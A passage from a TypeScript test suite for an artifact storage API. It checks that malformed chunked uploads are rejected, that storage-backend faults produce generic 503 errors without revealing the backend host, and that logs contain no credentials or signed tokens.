        'Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nbytes\r\nzz\r\n',
      ),
    ])
    expect(await count()).toEqual(before)
  })
})

describe('a store in trouble', () => {
  test.each([403, 500, 503, 'drop'] as const)('that answers %s is not described to clients', async fault => {
    const faulty = await startFaultyStore(environment.env.R2_ENDPOINT ?? '')
    const troubled = await startApi(environment, {
      worker: false,
      env: { ...env, R2_ENDPOINT: faulty.endpoint, STORE_TIMEOUT_MS: '2000' },
      log: line => logLines.push(JSON.stringify(line)),
    })
    try {
      const small = await store(anyPayload())
      const large = await storeRaw(randomBytes(100_000))
      faulty.fault = () => fault
      const host = new URL(faulty.endpoint).host
      for (const { id } of [small, large]) {
        for (const path of [`/api/storage/artifacts/${id}`, `/api/storage/artifacts/${id}?raw=1`]) {
          const answer = await troubled.call(null, 'GET', path, { headers: bearer(token) })
          expectNoLeak(answer)
          expect(answer.text).not.toContain(host)
          expectError(answer, 503, 'store_unavailable')
          expect(answer.headers.get('retry-after')).toBe('5')
        }
      }
      const stored = await troubled.call(null, 'POST', '/api/storage/artifacts', {
        json: `{"kind": "agent_trace", "payload": "${ourMarker}"}`,
        headers: bearer(token),
      })
      expectNoLeak(stored)
      expectError(stored, 503, 'store_unavailable')
      const hydrated = await troubled.call(null, 'POST', '/api/storage/hydrate', {
        json: `{"metadata": [{"tool_interactions_ref": "${small.id}"}]}`,
        headers: bearer(token),
      })
      expectNoLeak(hydrated)
      expect(hydrated.json.errors).toMatchObject([{ index: 0, code: 'store_unavailable' }])
      expect(hydrated.text).not.toContain(host)
    } finally {
      await troubled.daemon.stop()
      await faulty.close()
    }
  })
})

// Last, for it looks back on all of the above.
test('no credential, no signed token and no payload is in the log', () => {
  expect(logLines.length).toBeGreaterThan(1000)
  for (const secret of credentials) {
    expect(secret.length).toBeGreaterThan(8)
    expect(logLines.filter(line => line.includes(secret))).toEqual([])
  }
  // Nor any other token: each begins with {"alg in base64.
  expect(logLines.filter(line => line.includes('eyJhbGci'))).toEqual([])
})
